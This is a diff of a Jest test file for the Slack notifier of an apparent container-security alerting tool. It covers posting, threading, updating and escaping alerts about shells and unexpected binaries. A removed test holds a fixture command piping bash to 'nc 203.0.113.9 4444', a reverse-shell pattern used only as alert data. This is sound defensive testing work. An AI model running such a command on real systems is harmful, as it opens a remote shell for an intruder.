@@ -1,27 +1,12 @@
-import { afterEach, describe, expect, test } from '@jest/globals';
-import { createHttp } from '../../../functions/adapters/http.ts';
+import { describe, expect, test } from '@jest/globals';
 import { createSlack } from '../../../functions/adapters/receivers/slack.ts';
-import {
-  BLOCKS_LIMIT,
-  type Block,
-  BUTTON_URL_LIMIT,
-  BUTTON_VALUE_LIMIT,
-  escaped,
-  FALLBACK_LIMIT,
-  messageOf,
-  plainMessageOf,
-  TEXT_LIMIT,
-} from '../../../functions/adapters/receivers/slack-message.ts';
-import type { Notification } from '../../../functions/core/notification.ts';
-import type { SendOutcome } from '../../../functions/core/ports.ts';
-import { binaryNotification, HOSTILE, notificationWith, shellNotification } from '../../fixtures/notifications.ts';
-import { type Answerer, type Loopback, startLoopback } from '../loopback.ts';
-import { manualTimers } from '../timers.ts';
+import { binaryNotification, shellNotification } from '../../fixtures/notifications.ts';
+import type { Answerer } from '../loopback.ts';
 import { receiverContract } from './contract.ts';
+import { exchanging } from './exchange.ts';
 
 const TOKEN = 'xoxb-0000-T0PS3CRET';
 const CHANNEL = 'C0123456789';
-const never = new AbortController().signal;
 const POSTED = JSON.stringify({ ok: true, channel: CHANNEL, ts: '1503435956.000247' });
 
 const no = (error: string): string => JSON.stringify({ ok: false, error });
@@ -63,32 +48,30 @@ receiverContract({
   ],
   endless: 'retry',
   secrets: [TOKEN, 'T0PS3CRET', CHANNEL],
+  // A change of a message reaches nobody's phone, and a reply those alone who wrote in its thread, unless the channel hears it.
+  ringsBy: ({ path, body }) => {
+    const { thread_ts: thread, reply_broadcast: heard } = JSON.parse(body) as {
+      thread_ts?: string;
+      reply_broadcast?: true;
+    };
+    return path.endsWith('/chat.postMessage') && (heard || !thread) ? body : undefined;
+  },
 });
 
-const open: { close(): Promise<void> }[] = [];
-afterEach(async () => {
-  await Promise.all(open.splice(0).map((each) => each.close()));
+const exchange = exchanging((url, http) => {
+  const options = { channel: CHANNEL, token: TOKEN, url: `${url}/api/`, allow_private: true, buttons: true };
+  return createSlack({ name: 'chat', options, http, clock: () => 0 });
 });
-
-async function exchange(
-  notification: Notification,
-  answer: Answerer,
-): Promise<{ outcome: SendOutcome; server: Loopback }> {
-  const server = await startLoopback(answer);
-  const http = createHttp({ after: manualTimers().after });
-  open.push(server, http);
-  const options = { channel: CHANNEL, token: TOKEN, url: `${server.url}/api/`, allow_private: true, buttons: true };
-  const outcome = await createSlack({ name: 'chat', options, http, clock: () => 0 }).send(notification, never);
-  return { outcome, server };
-}
 
 const accept: Answerer = (_request, response) => void response.end(POSTED);
-const reference = { channel: 'C0999999999', ts: '1.2' };
+const place = { channel: 'C0999999999', ts: '1.2' };
+const reference = { ...place, rules: [shellNotification.lead.rule] };
 
 describe('sending', () => {
   test('a page is posted to the channel and gives the message back', async () => {
     const { outcome, server } = await exchange(shellNotification, accept);
-    expect(outcome).toEqual({ kind: 'delivered', reference: { channel: CHANNEL, ts: '1503435956.000247' } });
+    const rules = [shellNotification.lead.rule];
+    expect(outcome).toEqual({ kind: 'delivered', reference: { channel: CHANNEL, ts: '1503435956.000247', rules } });
     const [request] = server.received;
     expect([request?.path, request?.headers.authorization]).toEqual(['/api/chat.postMessage', `Bearer ${TOKEN}`]);
     expect(JSON.parse(request?.body ?? '')).toMatchObject({
@@ -106,16 +89,46 @@ describe('sending', () => {
     const { outcome, server } = await exchange({ ...shellNotification, type: 'update', reference }, accept);
     expect(outcome.kind).toBe('delivered');
     expect(server.received.map(({ path }) => path)).toEqual(['/api/chat.update']);
-    expect(JSON.parse(server.received[0]?.body ?? '')).toMatchObject(reference);
+    // Without them Slack would make links of what looks like one, as chat.postMessage does not.
+    const quiet = { parse: 'none', link_names: false };
+    expect(JSON.parse(server.received[0]?.body ?? '')).toMatchObject({ ...place, ...quiet });
   });
 
   test.each([
-    ['a page, even with a reference', { ...shellNotification, reference }],
     ['an update without a reference', { ...shellNotification, type: 'update' as const }],
     ['an update with a reference of another receiver', { ...shellNotification, type: 'update' as const, reference: 7 }],
   ])('%s is a new message', async (_name, notification) => {
     const { server } = await exchange(notification, accept);
     expect(server.received.map(({ path }) => path)).toEqual(['/api/chat.postMessage']);
+  });
+
+  test('a page of an incident that was told before is for the whole channel, in the thread of its message', async () => {
+    const again = { ...shellNotification, round: 2, reference };
+    const { outcome, server } = await exchange(again, accept);
+    expect(outcome).toEqual({ kind: 'delivered', reference });
+    expect(server.received.map(({ path }) => path)).toEqual(['/api/chat.update', '/api/chat.postMessage']);
+    const reply = JSON.parse(server.received[1]?.body ?? '') as Record<string, unknown>;
+    expect(reply).toMatchObject({ channel: place.channel, thread_ts: place.ts, reply_broadcast: true });
+    expect(reply.text).toContain('Pages again: it got worse after people were told');
+  });
+
+  test('a rule that the message did not tell of is a reply in its thread, once', async () => {
+    const grown = { ...binaryNotification, type: 'update' as const, reference };
+    const { outcome, server } = await exchange(grown, accept);
+    const rules = [binaryNotification.lead.rule, ...binaryNotification.others.map(({ rule }) => rule)];
+    expect(outcome).toEqual({ kind: 'delivered', reference: { ...place, rules } });
+    const reply = JSON.parse(server.received[1]?.body ?? '') as Record<string, unknown>;
+    expect(reply).toMatchObject({ thread_ts: place.ts, text: expect.stringContaining('ran /tmp/.x/kworker') });
+    expect(reply).not.toHaveProperty('reply_broadcast');
+    const told = await exchange({ ...grown, reference: { ...place, rules } }, accept);
+    expect(told.server.received.map(({ path }) => path)).toEqual(['/api/chat.update']);
+  });
+
+  test('a reply that fails is tried again with its message, which is told as not delivered', async () => {
+    const { outcome } = await exchange({ ...shellNotification, round: 2, reference }, (request, response) => {
+      response.end(request.path.endsWith('chat.update') ? POSTED : no('ratelimited'));
+    });
+    expect(outcome).toMatchObject({ kind: 'retry', reason: 'receiver-throttled' });
   });
 
   test.each(['message_not_found', 'cant_update_message', 'edit_window_closed'])(
@@ -132,141 +145,35 @@ describe('sending', () => {
     },
   );
 
-  test('blocks that Slack refuses are sent again as plain words', async () => {
-    const { outcome, server } = await exchange(binaryNotification, (request, response) => {
-      response.end(request.body.includes('"blocks"') ? no('invalid_blocks') : POSTED);
+  describe('blocks that Slack refuses', () => {
+    const noBlocks: Answerer = (request, response) => {
+      const { blocks = [] } = JSON.parse(request.body) as { blocks?: unknown[] };
+      response.end(blocks.length > 0 ? no('invalid_blocks') : POSTED);
+    };
+
+    test('are sent again as plain words', async () => {
+      const { outcome, server } = await exchange(binaryNotification, noBlocks);
+      expect(outcome.kind).toBe('delivered');
+      const plain = JSON.parse(server.received[1]?.body ?? '') as Record<string, unknown>;
+      expect(plain.text).toContain('ran /tmp/.x/kworker, not in image');
+      expect(plain).toMatchObject({ channel: CHANNEL, parse: 'none', link_names: false });
     });
-    expect(outcome.kind).toBe('delivered');
-    expect(JSON.parse(server.received[1]?.body ?? '').text).toContain('ran /tmp/.x/kworker, not in image');
-  });
-});
 
-/** As Slack shows it: code and box marked, buttons in brackets. */
-function shown(blocks: readonly Block[]): string {
-  return blocks
-    .map((block) => {
-      if (block.type === 'actions')
-        return block.elements.map(({ text, url }) => (url ? text.text : `[${text.text}]`)).join(' ');
-      return block.elements
-        .map(({ type, elements }) => {
-          const inner = elements
-            .map(({ text, style }) => (style?.code ? `\`${text}\`` : style?.bold ? `**${text}**` : text))
-            .join('');
-          return type === 'rich_text_preformatted' ? `\n[box]${inner}[/box]\n` : inner;
-        })
-        .join('');
-    })
-    .join('\n');
-}
-
-describe('messageOf', () => {
-  test('a terminal shell in production', () => {
-    expect(shown(messageOf(shellNotification, true).blocks)).toBe(
-      [
-        '🟠 **Shell in payments/ledger-api**',
-        '`bash` · root · pod ledger-api-7c9d-x2x8k · ledger-api:v41',
-        'acme-prod/europe-west1/payments-eu1 · node ...g2q1',
-        'Since 09:00:02, once; nothing else on this pod',
-        'T1059 Command and Scripting Interpreter · execution',
-        'First: find out who opened it',
-        '[Acknowledge] [Expected, mute 1 h] [Page on-call] [Why?] Logs Pod Runbook',
-      ].join('\n'),
-    );
-  });
-
-  test('a long command has its own box and keeps both ends', () => {
-    const lead = {
-      fields: { 'proc.cmdline': `bash -c ${'x'.repeat(600)} | nc 203.0.113.9 4444`, 'user.name': 'root' },
-    };
-    const text = shown(messageOf(notificationWith(lead), false).blocks);
-    expect(text).toMatch(/\n\[box\]bash -c x+…\(\+\d+\)x+ \| nc 203\.0\.113\.9 4444\[\/box\]\n · root/);
-  });
-
-  test('buttons that act carry the group key and the generation they were drawn for', () => {
-    const { blocks } = messageOf({ ...shellNotification, generation: 4 }, true);
-    const acting = blocks
-      .flatMap((block) => (block.type === 'actions' ? block.elements : []))
-      .filter(({ url }) => !url);
-    expect(acting.map(({ action_id }) => action_id)).toEqual(['acknowledge', 'mute_1h', 'page_oncall', 'why']);
-    for (const { value } of acting) {
-      expect(JSON.parse(value ?? '')).toEqual({ groupKey: shellNotification.groupKey, generation: 4 });
-    }
-  });
-
-  test.each([
-    ['open', ['acknowledge', 'mute_1h', 'page_oncall', 'why']],
-    ['acknowledged', ['mute_1h', 'page_oncall', 'why']],
-    ['resolved', ['why']],
-  ] as const)('offers what an incident that is %s allows', (state, expected) => {
-    const { blocks } = messageOf({ ...shellNotification, state, links: { query: '' } }, true);
-    expect(
-      blocks.flatMap((block) => (block.type === 'actions' ? block.elements.map((each) => each.action_id) : [])),
-    ).toEqual(expected);
-  });
-
-  test('without leave only links are shown, and without links no actions at all', () => {
-    const ids = (links: Notification['links']): string[] =>
-      messageOf({ ...shellNotification, links }, false).blocks.flatMap((block) =>
-        block.type === 'actions' ? block.elements.map(({ action_id }) => action_id) : [],
-      );
-    expect(ids(shellNotification.links)).toEqual(['open_logs', 'open_console', 'open_runbook']);
-    expect(messageOf({ ...shellNotification, links: { query: '' } }, false).blocks).toHaveLength(1);
-  });
-
-  test('a link or key that Slack would refuse is left out, not the message', () => {
-    const links = { query: '', logs: `https://g.example/${'x'.repeat(BUTTON_URL_LIMIT)}` };
-    expect(
-      messageOf({ ...shellNotification, links, groupKey: 'k'.repeat(BUTTON_VALUE_LIMIT) }, true).blocks,
-    ).toHaveLength(1);
-  });
-
-  test.each(HOSTILE)('%s is shown as it is, within the limits', (_name, text) => {
-    const fields = {
-      'proc.cmdline': text,
-      'proc.exepath': text,
-      'proc.name': text,
-      'user.name': text,
-      'fd.name': text,
-    };
-    const message = messageOf(
-      notificationWith(
-        { rule: text, fields, where: { namespace: text, pod: text, image: text, node: text } },
-        { firstStep: text },
-      ),
-      true,
-    );
-    expect(message.blocks.length).toBeLessThanOrEqual(BLOCKS_LIMIT);
-    let total = 0;
-    for (const block of message.blocks) {
-      // Nothing but text elements: no user, channel, broadcast, link or emoji element can come out of an event.
-      const elements = block.type === 'rich_text' ? block.elements.flatMap((part) => part.elements) : [];
-      for (const element of elements) {
-        expect(element.type).toBe('text');
-        expect(element.text.length).toBeGreaterThan(0);
-        expect(element.text.length).toBeLessThanOrEqual(TEXT_LIMIT);
-        total += element.text.length;
-      }
-    }
-    expect(total).toBeLessThan(9_000);
-    expect(message.text).not.toMatch(/[<>*_~`]/);
-    expect(message.text).not.toMatch(/&(?!amp;|lt;|gt;)/);
-    expect(message.text.length).toBeLessThanOrEqual(FALLBACK_LIMIT);
-  });
-
-  test.each(HOSTILE)('%s as plain words stays within the limit and unformatted', (_name, text) => {
-    const { text: words } = plainMessageOf(notificationWith({ fields: { 'proc.cmdline': text } }, { firstStep: text }));
-    expect(words.length).toBeLessThanOrEqual(FALLBACK_LIMIT);
-    expect(words).not.toMatch(/[<>*_~`]/);
-  });
-});
-
-describe('escaped', () => {
-  test.each([
-    ['<!channel>', '&lt;!channel&gt;'],
-    ['a & b', 'a &amp; b'],
-    ['&lt;', '&amp;lt;'],
-    ['*b* _i_ ~s~ `c`', '∗b∗ ˍiˍ ∼s∼ ˋcˋ'],
-  ])('%s', (text, expected) => {
-    expect(escaped(text)).toBe(expected);
+    test('take those of before with them, and the reply in the thread is plain too', async () => {
+      const { outcome, server } = await exchange({ ...binaryNotification, round: 2, reference }, noBlocks);
+      const rules = [binaryNotification.lead.rule, ...binaryNotification.others.map(({ rule }) => rule)];
+      expect(outcome).toEqual({ kind: 'delivered', reference: { ...place, rules } });
+      const [, update, , reply] = server.received.map(({ body }) => JSON.parse(body) as Record<string, unknown>);
+      expect(server.received.map(({ path }) => path.slice('/api/'.length))).toEqual([
+        'chat.update',
+        'chat.update',
+        'chat.postMessage',
+        'chat.postMessage',
+      ]);
+      expect(update).toMatchObject({ ...place, blocks: [] });
+      expect(reply).toMatchObject({ thread_ts: place.ts, reply_broadcast: true, parse: 'none', link_names: false });
+      expect(reply?.text).toContain('Pages again: it got worse after people were told');
+      expect(reply).not.toHaveProperty('blocks');
+    });
   });
 });
